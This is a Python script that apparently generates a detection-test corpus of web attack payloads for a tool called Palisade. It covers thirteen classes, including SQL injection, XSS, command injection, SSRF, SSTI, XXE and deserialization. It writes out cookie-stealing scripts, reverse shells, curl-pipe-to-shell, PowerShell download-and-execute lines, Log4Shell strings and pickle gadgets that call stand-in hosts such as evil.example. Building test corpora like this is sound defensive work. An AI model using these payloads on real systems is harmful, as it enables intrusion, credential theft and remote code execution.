"""Generates corpus/attacks/<class>.txt: Palisade's own attack variants,
built from templates x obfuscations (deterministic; run: python3 corpus/gen/gen_attacks.py)."""
import base64
import gzip
import itertools
import struct

from common import (double_url, escape_bytes, escape_line, html_hex, plus_spaces, random_case, rng, url,
                    url_all, write)

PREFIXES = ["", "1", "test", "127.0.0.1", "foo.txt", "admin", "42", "x"]


def sqli():
    r = rng("sqli")
    out = []
    closers = ["'", "\"", "", "')", "\")", "'))", "1'", "1\"", "1)", "-1"]
    bodies = [
        " or 1=1-- -", " or '1'='1", " OR 1=1#", " or true--", " || 1=1--", " or 2>1--",
        " union select null,null--", " UNION SELECT username,password FROM users--",
        " union all select 1,2,3,group_concat(table_name) from information_schema.tables--",
        " and 1=2 union select @@version--", " and sleep(5)--", " AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
        "; waitfor delay '0:0:5'--", "; drop table users--", "; exec xp_cmdshell 'dir'--",
        " and extractvalue(1,concat(0x7e,version()))--", " and updatexml(1,concat(0x7e,user()),1)--",
        " order by 10--", " group by 1 having 1=1--", " and 1=cast(version() as int)--",
        " and substring(@@version,1,1)='5'", " and ascii(substr((select user()),1,1))>64--",
        "; select pg_sleep(5)--", " and benchmark(5000000,md5(1))--", " and 1 in (select 1)--",
        " or 1 like 1--", " and 0x41=0x41--", " union select load_file('/etc/passwd')--",
        " into outfile '/var/www/s.php'--", " and dbms_pipe.receive_message('a',5)=1--",
    ]
    for c, b in itertools.product(closers, bodies):
        out.append(c + b)
    base = list(out)
    for p in base[:120]:
        out.append(p.replace(" ", "/**/"))
        out.append(random_case(r, p))
        out.append(plus_spaces(p))
        out.append(url(p))
    for p in base[:40]:
        out.append(double_url(p))
        out.append(p.replace(" ", "%0a"))
    return out


def xss():
    r = rng("xss")
    out = []
    vectors = [
        "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<body onload=alert(document.domain)>",
        "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>", "\" onmouseover=\"alert(1)",
        "' autofocus onfocus='alert(1)", "</title><script>alert(1)</script>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<marquee onstart=alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
        "javascript:alert(document.cookie)", "<img src=1 onerror=fetch('//evil.example/'+document.cookie)>",
        "<script>document.location='//evil.example/?c='+document.cookie</script>", "<form action=javascript:alert(1)><button>x",
        "<isindex type=image src=1 onerror=alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<audio src onerror=alert(1)>", "<style>@import'//evil.example/x.css';</style>",
        "<x onclick=alert(1)>click", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "</script><script>alert(1)</script>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    ]
    for v in vectors:
        out.append(v)
        out.append(random_case(r, v))
        out.append(url(v))
        out.append(double_url(v))
        out.append(html_hex(v) if len(v) < 40 else v.replace("<", "%3C").replace(">", "%3E"))
        out.append(v.replace(" ", "/"))
        out.append(v.replace("alert", "confirm"))
        out.append("search=" + url(v))
    return out


SEPARATORS = [";", "|", "||", "&&", "&", "\n", "%0a", "`", "$("]
UNIX_CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ping -c 10 127.0.0.1", "sleep 5",
             "wget http://evil.example/x.sh -O /tmp/x", "curl http://evil.example/s|sh", "nc -e /bin/sh 10.0.0.1 4444",
             "bash -c 'id'", "echo pwned > /tmp/p", "cat /etc/shadow", "ifconfig", "netstat -an", "ps aux",
             "rm -rf /tmp/x", "python3 -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "chmod 777 /tmp/x",
             "nslookup evil.example", "base64 /etc/passwd", "head /etc/passwd", "sh"]
WIN_CMDS = ["whoami", "dir c:\\", "type c:\\windows\\win.ini", "ipconfig /all", "net user", "systeminfo", "tasklist",
            "ping -n 10 127.0.0.1", "certutil -urlcache -f http://evil.example/x.exe x.exe", "powershell -enc SQBFAFgA"]


def obfuscate_cmd(r, cmd):
    word, _, rest = cmd.partition(" ")
    tail = (" " + rest) if rest else ""
    variants = [cmd]
    if len(word) >= 2:
        i = r.randrange(1, len(word))
        variants.append(word[:i] + "'" + "'" + word[i:] + tail)          # empty quotes
        variants.append(word[:i] + "\\" + word[i:] + tail)              # backslash split
        variants.append("'" + word[:i] + "'" + word[i:] + tail)          # quote split
        variants.append(word[:i] + "$@" + word[i:] + tail)               # empty expansion
    if rest:
        variants.append(word + "${IFS}" + rest.replace(" ", "${IFS}"))
        variants.append(word + "$IFS" + rest.replace(" ", "$IFS"))
        variants.append(word + "\t" + rest)
        variants.append("{" + word + "," + rest.replace(" ", ",") + "}")
    variants.append("/usr/bin/" + cmd if not cmd.startswith("/") else cmd)
    return variants


def cmdi():
    r = rng("cmdi")
    out = []
    for cmd in UNIX_CMDS:
        for variant in obfuscate_cmd(r, cmd):
            for sep in r.sample(SEPARATORS, 2):
                prefix = r.choice(PREFIXES)
                if sep == "`":
                    out.append(prefix + "`" + variant + "`")
                elif sep == "$(":
                    out.append(prefix + "$(" + variant + ")")
                else:
                    out.append(prefix + sep + variant)
                    out.append(prefix + " " + sep + " " + variant)
    for cmd in WIN_CMDS:
        for sep in ["&", "|", "&&", "||", "\r\n"]:
            prefix = r.choice(PREFIXES)
            out.append(prefix + sep + cmd)
            word, _, rest = cmd.partition(" ")
            out.append(prefix + sep + "^".join(word) + (" " + rest if rest else ""))
            out.append(prefix + sep + "C:\\Windows\\System32\\" + word + ".exe" + (" " + rest if rest else ""))
            out.append(prefix + sep + "cmd.exe /c " + cmd)
    ps = ["powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
          "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A", "IEX (iwr http://evil.example/a.ps1)",
          "Invoke-Expression (Invoke-WebRequest http://evil.example/p)", "Start-Process calc.exe",
          "(New-Object System.Net.WebClient).DownloadFile('http://evil.example/x','x.exe')"]
    for p in ps:
        for sep in ["&", "|", ";"]:
            out.append("1" + sep + p)
    rev = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
           "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
           "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"]
    for p in rev:
        out.append(";" + p)
        out.append(url(";" + p))
    encoded = []
    for p in out[:150]:
        encoded.append(url(p))
        if r.random() < 0.3:
            encoded.append(double_url(p))
    return out + encoded


SENSITIVE = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "etc/issue", "var/log/apache2/access.log",
             "root/.ssh/id_rsa", "home/user/.bash_history", "etc/mysql/my.cnf", "proc/self/cmdline"]
WIN_SENSITIVE = ["windows\\win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts", "inetpub\\wwwroot\\web.config",
                 "windows\\repair\\sam"]


def path_traversal():
    r = rng("path_traversal")
    out = []
    ups = ["../", "..\\", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/",
           "....//", "..;/", "%uff0e%uff0e/", "..%5c", "%2e%2e%5c", ".%2e/", "..%u2215", "../\\"]
    for up, target in itertools.product(ups, SENSITIVE):
        depth = r.randrange(3, 9)
        out.append(up * depth + target)
        if r.random() < 0.3:
            out.append("/static/" + up * depth + target + "%00.png")
    for up, target in itertools.product(["..\\", "../", "..%5c", "%2e%2e%5c"], WIN_SENSITIVE):
        out.append(up * r.randrange(3, 8) + target)
        out.append("C:\\" + target)
    for target in SENSITIVE:
        out.append("/" + target)
        out.append("file:///" + target)
        out.append(url("/" + target))
    wrappers = ["php://filter/convert.base64-encode/resource=index.php", "php://filter/read=string.rot13/resource=config.php",
                "php://input", "zip://uploads/avatar.jpg%23shell.php", "phar://uploads/x.phar/test.txt", "expect://id",
                "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==", "glob://*", "file:///c:/windows/win.ini",
                "compress.zlib://file:///etc/passwd", "jar:file:///tmp/x.jar!/"]
    for w in wrappers:
        out.extend([w, random_case(r, w[:6]) + w[6:], url(w)])
    for target in ["WEB-INF/web.xml", "WEB-INF/classes/application.properties", ".git/config", ".env", ".htpasswd", "wp-config.php"]:
        out.append("../" * r.randrange(2, 6) + target)
        out.append("..;/" * r.randrange(2, 5) + target)
        out.append(url("../" * 3 + target))
    return out


LOOPBACK_SPELLINGS = ["127.0.0.1", "localhost", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0x0.0x0.0x1",
                      "0177.0.0.1", "017700000001", "0x7f.1", "[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]",
                      "[::ffff:7f00:1]", "0.0.0.0", "0", "127.127.127.127", "LOCALHOST", "localhost.localdomain",
                      "127.0.0.1.nip.io", "app.localtest.me", "[::]", "127.000.000.001"]
INTERNAL = ["10.0.0.1", "192.168.1.1", "172.16.0.10", "169.254.169.254", "metadata.google.internal", "100.100.100.200",
            "[fd00:ec2::254]", "169.254.170.2", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "[::ffff:a9fe:a9fe]",
            "instance-data", "kubernetes.default.svc", "192.168.0.1.nip.io"]
PATHS = ["/", "/admin", "/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/?recursive=true",
         ":6379/", ":8080/actuator/env", ":2375/containers/json", "/server-status", ":9200/_cat/indices", "/metadata/instance?api-version=2021-02-01"]


def ssrf():
    r = rng("ssrf")
    out = []
    for host in LOOPBACK_SPELLINGS + INTERNAL:
        for scheme in ["http://", "https://", "http://user:pass@", "http://expected.example@", "//"]:
            out.append(scheme + host + r.choice(PATHS))
    for host in LOOPBACK_SPELLINGS[:10] + INTERNAL[:6]:
        out.append("gopher://" + host + ":6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A")
        out.append("dict://" + host + ":11211/stat")
        out.append("url=" + url("http://" + host + "/admin"))
        out.append("http://" + host + "%23@example.com/")
    out.extend(["file:///etc/passwd", "file://localhost/etc/hosts", "ldap://127.0.0.1:389/", "tftp://10.0.0.1/x",
                "jar:http://127.0.0.1!/", "netdoc:///etc/passwd", "sftp://10.0.0.5:22/"])
    return out


def ssti():
    r = rng("ssti")
    out = []
    probes = ["7*7", "7*'7'", "1337*1337", "191*7", "3*3", "49+1", "1000-1", "6*7"]
    for p in probes:
        for o, c in [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("*{", "}"), ("{{ ", " }}"), ("${{", "}}"), ("@(", ")")]:
            out.append(o + p + c)
    jinja = ["''.__class__.__mro__[1].__subclasses__()", "config.items()", "self.__init__.__globals__.__builtins__",
             "request.application.__globals__.__builtins__.__import__('os').popen('id').read()",
             "lipsum.__globals__.os.popen('id').read()", "cycler.__init__.__globals__.os.popen('id').read()",
             "''|attr('__class__')", "get_flashed_messages.__globals__", "url_for.__globals__['current_app'].config",
             "joiner.__init__.__globals__.os.popen('ls').read()", "namespace.__init__.__globals__.os.popen('id').read()",
             "().__class__.__bases__[0].__subclasses__()"]
    for j in jinja:
        out.extend(["{{" + j + "}}", "{{ " + j + " }}", "{%print(" + j + ")%}", "{% set x=" + j + " %}"])
    java = ["T(java.lang.Runtime).getRuntime().exec('id')", "''.getClass().forName('java.lang.Runtime')",
            "new java.lang.ProcessBuilder('id').start()", "Class.forName('java.lang.Runtime').getMethod('exec')",
            "@java.lang.Runtime@getRuntime().exec('id')", "applicationScope", "facesContext.externalContext",
            "\"\".getClass().getClassLoader()", "request.getClass().getClassLoader()",
            "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())"]
    for j in java:
        out.extend(["${" + j + "}", "#{" + j + "}", "*{" + j + "}", "__${" + j + "}__::.x"])
    out.extend([
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "<#assign classloader=article.class.protectionDomain.classLoader>",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
        "<%= system('id') %>", "<%= `id` %>", "<%= File.open('/etc/passwd').read %>", "<%= IO.popen('id').readlines() %>",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{['id']|filter('system')}}", "{php}echo `id`;{/php}", "{$smarty.version}", "{self::getStreamVariable(\"file:///etc/passwd\")}",
        "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
        "#{7*7}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "${{<%[%'\"}}%\\.", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c id\"))",
    ])
    hosts = ["attacker.example", "x.oast.example", "10.0.0.5:1389", "evil.example:443"]
    for proto, host in itertools.product(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba"], hosts):
        out.append("${jndi:" + proto + "://" + host + "/a}")
    obf = ["${${lower:j}ndi:ldap://%s/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://%s/a}", "${${upper:j}${upper:n}di:rmi://%s/a}",
           "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/a}", "${j${::-n}di:dns://%s/a}",
           "${${lower:jnd}${lower:i}:ldap://%s/a}", "${jNdI:ldap://%s/a}", "${${::-j}ndi:rmi://%s/a}",
           "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/a}", "${env:AWS_SECRET_ACCESS_KEY}",
           "${sys:java.version}", "${java:os}", "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsfQ==}}",
           "${jndi:${lower:l}${lower:d}a${lower:p}://%s/a}"]
    for o in obf:
        for host in hosts:
            p = o.replace("%s", host)
            out.append(p)
            out.append(url(p))
    base = list(out)
    for p in base:
        if r.random() < 0.35:
            out.append(url(p))
    return out


MONGO_OPS = ["$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$exists", "$nin", "$in", "$expr", "$or", "$not", "$elemMatch"]


def nosqli():
    r = rng("nosqli")
    out = []
    values = ["null", "\"\"", "1", "\"a\"", "true", "\".*\"", "[]", "{}", "\"^adm\""]
    fields = ["username", "password", "user", "email", "token", "pin", "login"]
    for op, field in itertools.product(MONGO_OPS, fields):
        v = r.choice(values)
        out.append('{"%s": {"%s": %s}}' % (field, op, v))
        out.append('{"%s":"admin","password":{"%s":%s}}' % (field, op, v))
        out.append("%s[%s]=%s" % (field, op, r.choice(["1", "", "admin", ".*", "x"])))
        out.append(url("%s[%s]" % (field, op)) + "=1")
        out.append("{%s: {%s: %s}}" % (field, op, v))
    js = ["'; return true; var x='", "\"; return true; var x=\"", "'; sleep(5000); var x='", "1; return this.password.match(/^a/)//",
          "' || '1'=='1", "\" || \"1\"==\"1", "'; return db.users.find(); var x='", "this.password.match(/.*/)//",
          "'; while(true){}; var x='", "admin' && this.password.match(/^p/)//"]
    for j in js:
        out.extend([j, url(j), '{"$where": "%s"}' % j.replace('"', '\\"')])
    out.extend(['{"$where": "sleep(5000) || true"}', '[{"$match": {"role": "admin"}}]', '{"$expr": {"$gt": ["$balance", 0]}}',
                'db.getCollection("users").find({})', '{"username": {"$regex": "^adm"}, "password": {"$ne": 1}}'])
    return out


def deserialization():
    r = rng("deserialization")
    out = []
    java_raw = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthreshold"
    java_cc = b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5"
    for blob in [java_raw, java_cc]:
        out.append(escape_bytes(blob))
        out.append(base64.b64encode(blob).decode())
        out.append(url(base64.b64encode(blob).decode()))
    gz = bytearray(gzip.compress(java_raw, mtime=0))
    gz[9] = 0xFF  # Java's GZIPOutputStream writes OS=unknown
    out.append(base64.b64encode(bytes(gz)).decode())
    classes = ["stdClass", "Evil", "Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Laravel\\Bus\\PendingCommand",
               "User", "Session", "Logger", "Swift_ByteStream_TemporaryFileByteStream", "Requests_Utility_FilteredIterator"]
    for c in classes:
        body = 's:4:"file";s:11:"/etc/passwd";'
        obj = 'O:%d:"%s":1:{%s}' % (len(c), c, body)
        out.extend([obj, 'a:1:{i:0;%s}' % obj, url(obj), base64.b64encode(obj.encode()).decode(),
                    'C:%d:"%s":%d:{%s}' % (len(c), c, len(body), body), 'O:+%d:"%s":1:{%s}' % (len(c), c, body)])
    import pickle
    import os as _os

    class Exploit:
        def __init__(self, cmd):
            self.cmd = cmd

        def __reduce__(self):
            return (_os.system, (self.cmd,))

    for cmd in ["id", "whoami", "curl http://evil.example/x | sh", "touch /tmp/pwned"]:
        for proto in [0, 2, 3, 4]:
            blob = pickle.dumps(Exploit(cmd), protocol=proto)
            out.append(escape_bytes(blob))
            out.append(base64.b64encode(blob).decode())
            out.append(base64.urlsafe_b64encode(blob).decode())
    out.extend([escape_line("cos\nsystem\n(S'id'\ntR."), escape_line("c__builtin__\neval\n(S'__import__(\"os\").system(\"id\")'\ntR."),
                base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode(), escape_line("csubprocess\ncheck_output\n(S'id'\ntR.")])
    yaml = ["!!python/object/apply:os.system ['id']", "!!python/object/apply:subprocess.check_output [['id']]",
            "!!python/object/new:os.system [id]", "!!python/name:os.system", "!!python/module:os",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
            "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://evil.example/a', autoCommit: true}",
            "--- !ruby/object:Gem::Installer\ni: x", "!!python/object/apply:builtins.eval [\"__import__('os').system('id')\"]"]
    for y in yaml:
        out.extend([escape_line(y), url(y), escape_line("a: " + y)])
    dotnet = ['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start"}',
              '{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"file:///x.dll"}',
              '{"$type":"System.Security.Principal.WindowsIdentity, mscorlib","System.Security.ClaimsIdentity.actor":"AAEAAAD/////"}',
              '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}',
              '{"@type":"org.apache.commons.configuration.JNDIConfiguration","prefix":"ldap://x/a"}',
              '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://evil.example/a","autoCommit":true}]',
              "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I=",
              '<ObjectDataProvider MethodName="Start" ObjectType="{x:Type Diag:Process}"/>']
    for d in dotnet:
        out.extend([d, url(d)])
    ruby = [b"\x04\x08o:\x15Gem::Requirement\x06:\x10@requirements", b"\x04\x08U:\x15Gem::Requirement[\x06"]
    for blob in ruby:
        out.extend([escape_bytes(blob), base64.b64encode(blob).decode()])
    # Java gadget class names as they appear in JSON/XML (XStream, Jackson)
    for g in ["org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.collections4.functors.InstantiateTransformer",
              "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "org.springframework.beans.factory.ObjectFactory",
              "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource", "org.codehaus.groovy.runtime.MethodClosure",
              "ch.qos.logback.core.db.DriverManagerConnectionSource", "bsh.Interpreter"]:
        out.append('["%s", {"x": 1}]' % g)
        out.append("<%s><x>1</x></%s>" % (g, g))
    return out


def xxe():
    out = []
    targets = ["file:///etc/passwd", "file:///c:/windows/win.ini", "http://169.254.169.254/latest/meta-data/", "php://filter/convert.base64-encode/resource=index.php",
               "http://evil.example/x.dtd", "expect://id", "jar:http://evil.example/x.jar!/a", "netdoc:/etc/hosts", "file:///proc/self/environ"]
    roots = ["foo", "root", "r", "user", "data", "svg", "xml", "stockCheck"]
    for t, root in itertools.product(targets, roots):
        out.append('<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY xxe SYSTEM "%s">]><%s>&xxe;</%s>' % (root, t, root, root))
        out.append('<!DOCTYPE %s [<!ENTITY %% dtd SYSTEM "%s"> %%dtd;]><%s/>' % (root, t, root))
        out.append('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE %s SYSTEM "%s">\n<%s>x</%s>' % (root, t, root, root))
    for t in targets:
        out.append('<!DOCTYPE x [<!ENTITY xxe PUBLIC "-//x//y" "%s">]><x>&xxe;</x>' % t)
        out.append('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="%s"/></foo>' % t)
        out.append(url('<!DOCTYPE x [<!ENTITY xxe SYSTEM "%s">]><x>&xxe;</x>' % t))
        out.append('<!DOCTYPE x [<!ENTITY % file SYSTEM "' + t + '"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://evil.example/?x=%file;\'>">%eval;%exfil;]>')
    lol = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>'
    out.extend([lol, url(lol), '<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><text>&x;</text></svg>'])
    return [escape_line(x) for x in out]


HEADERS = ["Set-Cookie: session=attacker", "Set-Cookie:admin=1; Path=/", "Location: http://evil.example/", "Content-Length: 0",
           "Content-Type: text/html", "X-XSS-Protection: 0", "Access-Control-Allow-Origin: *", "Refresh: 0; url=http://evil.example/",
           "Content-Disposition: attachment; filename=x.exe", "X-Forwarded-Host: evil.example", "Transfer-Encoding: chunked",
           "Cache-Control: public, max-age=31536000", "Link: <http://evil.example/x.css>; rel=stylesheet"]
BREAKS = ["%0d%0a", "%0a", "%0d", "%0D%0A", "\r\n", "\n", "%250d%250a", "%E5%98%8A%E5%98%8D", "%u000d%u000a", "%0d%0a%20", "\\r\\n"]


def crlf():
    r = rng("crlf")
    out = []
    for h, b in itertools.product(HEADERS, BREAKS):
        prefix = r.choice(["", "/", "/home", "en", "https://example.com/", "value", "1"])
        hv = h if "%" not in b else h.replace(" ", "%20")
        out.append(escape_line(prefix + b + hv))
    for b in BREAKS[:6]:
        out.append(escape_line("x" + b + "Content-Length: 0" + b + b + "HTTP/1.1 200 OK" + b + "Content-Type: text/html" + b + b + "<script>alert(1)</script>"))
        out.append(escape_line("/" + b + b + "<html>injected</html>"))
    return out


def ldapi():
    out = []
    attrs = ["uid", "cn", "mail", "objectClass", "sn", "userPassword", "memberOf", "sAMAccountName", "givenName"]
    users = ["*", "admin", "jdoe", "a*", "x", ""]
    for a, u in itertools.product(attrs, users):
        out.append("%s)(%s=*" % (u, a))
        out.append("%s)(|(%s=*)" % (u, a))
        out.append("%s)(&(%s=*)" % (u, a))
        out.append("*)(%s=*))(|(%s=*" % (a, a))
        out.append("%s)(!(%s=x)" % (u, a))
    for p in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "admin*)((|userPassword=*)", "*)%00",
              "*()|%26'", "*(|(mail=*))", "admin)(!(&(1=0", "(|(uid=admin)(uid=root))", "x)(|(cn=a*)(cn=b*))",
              "*)(cn=*))\x00", "(&(objectClass=user)(cn=*))"]:
        out.extend([escape_line(p), url(p)])
    return out


def prototype_pollution():
    out = []
    props = ["isAdmin", "polluted", "role", "toString", "shell", "NODE_OPTIONS", "outputFunctionName", "sourceURL", "debug", "allowedTags"]
    vals = ["true", "1", "admin", "x;process.mainModule.require('child_process').execSync('id')//"]
    for p, v in itertools.product(props, vals):
        out.extend([
            "__proto__[%s]=%s" % (p, v), "a[__proto__][%s]=%s" % (p, v), "__proto__.%s=%s" % (p, v),
            '{"__proto__": {"%s": "%s"}}' % (p, v), "constructor[prototype][%s]=%s" % (p, v),
            "constructor.prototype.%s=%s" % (p, v), '{"constructor": {"prototype": {"%s": "%s"}}}' % (p, v),
            url("__proto__[%s]" % p) + "=" + url(v),
        ])
    out.extend(['{"a": {"__proto__": {"x": 1}}}', "obj['__proto__']['x']=1", 'x["constructor"]["prototype"]["y"]=1',
                "?__proto__%5Bpolluted%5D=1", "?constructor%5Bprototype%5D%5Bx%5D=1"])
    return out


def mail_injection():
    r = rng("mail_injection")
    out = []
    senders = ["victim@example.com", "user@shop.example", "me@example.org", "a@b.example", "contact@site.example"]
    injected = ["Bcc: spam@attacker.example", "Cc: list@attacker.example", "To: target@attacker.example",
                "Bcc:a@attacker.example,b@attacker.example", "From: ceo@example.com", "Reply-To: phish@attacker.example",
                "Subject: You won", "Content-Type: text/html", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=x",
                "Content-Transfer-Encoding: base64", "Return-Path: <bounce@attacker.example>"]
    for s, i in itertools.product(senders, injected):
        b = r.choice(["%0a", "%0d%0a", "\n", "\r\n", "%0A", "%0D%0A", "\\n"])
        out.append(escape_line(s + b + i) if "%" not in b else s + b + i.replace(" ", "%20"))
        out.append(escape_line(s + "\r\n" + i + "\r\n\r\nspam body"))
    for s in senders:
        out.append(escape_line(s + "\r\nRCPT TO:<x@attacker.example>"))
        out.append(escape_line(s + "\nMAIL FROM:<x@attacker.example>"))
    return out


GENERATORS = {
    "sqli": sqli, "xss": xss, "cmdi": cmdi, "path_traversal": path_traversal, "ssrf": ssrf, "ssti": ssti,
    "nosqli": nosqli, "deserialization": deserialization, "xxe": xxe, "crlf": crlf, "ldapi": ldapi,
    "prototype_pollution": prototype_pollution, "mail_injection": mail_injection,
}

ALREADY_ESCAPED = {"xxe", "crlf", "ldapi", "mail_injection", "deserialization"}

if __name__ == "__main__":
    for name, generate in GENERATORS.items():
        lines = generate()
        if name not in ALREADY_ESCAPED:
            lines = [escape_line(line) for line in lines]
        write("attacks", name, lines)
